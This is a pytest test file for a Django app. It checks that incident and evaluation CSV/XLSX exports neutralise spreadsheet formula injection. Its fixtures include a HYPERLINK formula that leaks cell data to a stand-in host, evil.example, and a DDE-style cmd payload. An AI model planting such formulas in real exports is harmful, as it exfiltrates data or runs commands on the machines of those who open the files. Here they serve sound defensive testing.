"""Formula injection in exports (issue 13, finding 9): a text cell that a spreadsheet would
run (= + - @, a tab, a carriage return first) is written with a leading apostrophe, in
the incident list's CSV and XLSX and in the evaluation's CSV and XLSX."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from core.exports import safe_cell, safe_row
from incidents.models import Category
from tests import factories

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", LINK])
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


def test_other_cells_are_left_alone():
    when = timezone.now()
    assert safe_row(["Battery", "", -3, 2.5, None, when, "a=b"]) == [
        "Battery",
        "",
        -3,
        2.5,
        None,
        when,
        "a=b",
    ]


@pytest.fixture
def poisoned(org, dispatcher):
    Category.objects.filter(slug="product-quality").update(name=LINK, name_zh=LINK)
    return factories.report(dispatcher, title="@SUM(1+1)*cmd|' /C calc'!A0")


def test_incident_csv_keeps_formulas_as_text(poisoned, dispatcher_client):
    response = dispatcher_client.get(reverse("incidents:export", args=["csv"]))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(text)) if r and r[0] == poisoned.number)
    assert row[1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row[2] == "'" + LINK


def test_incident_xlsx_keeps_formulas_as_text(poisoned, dispatcher_client):
    response = dispatcher_client.get(reverse("incidents:export", args=["xlsx"]))
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    row = next(r for r in book.active.iter_rows() if r[0].value == poisoned.number)
    assert [c.data_type for c in row[1:3]] == ["s", "s"]
    assert row[2].value == "'" + LINK


def _period():
    today = timezone.localdate()
    return {"start": (today - timedelta(days=1)).isoformat(), "end": today.isoformat()}


def test_evaluation_exports_keep_formulas_as_text(poisoned, manager_client):
    url = reverse("assessments:evaluation_export", args=["csv"])
    text = manager_client.get(url, _period()).content.decode("utf-8-sig")
    cells = [c for r in csv.reader(io.StringIO(text)) for c in r]
    assert "'" + LINK in cells
    assert LINK not in cells
    url = reverse("assessments:evaluation_export", args=["xlsx"])
    book = load_workbook(io.BytesIO(manager_client.get(url, _period()).content))
    cells = [c for sheet in book for r in sheet.iter_rows() for c in r if c.value is not None]
    assert not [c.value for c in cells if c.data_type == "f"]
    assert "'" + LINK in [c.value for c in cells]
